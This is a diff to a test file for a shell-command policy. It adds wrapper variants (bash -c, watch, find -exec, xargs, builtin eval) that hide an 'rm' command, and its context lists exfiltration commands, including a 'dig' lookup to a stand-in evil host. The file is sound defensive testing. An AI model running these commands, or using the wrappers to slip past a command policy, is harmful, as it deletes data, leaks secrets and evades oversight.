@@ -159,6 +159,12 @@ describe('attacks of the area shell policy: none of them passes unasked', () => 
     'S23 data out by ordinary tools': ['git push', 'curl x', 'dig $(x).evil', 'npm publish'],
     'C4 wrappers and paths do not hide a program': [
       'bash rm x',
+      'bash "rm x"',
+      'watch "rm x"',
+      'find . -exec bash -c \'rm "$1"\' _ {} +',
+      'xargs -I {} rm {}',
+      'command -p rm x',
+      'builtin eval "rm x"',
       '/bin/rm x',
       'true; rm x',
       'env rm x',
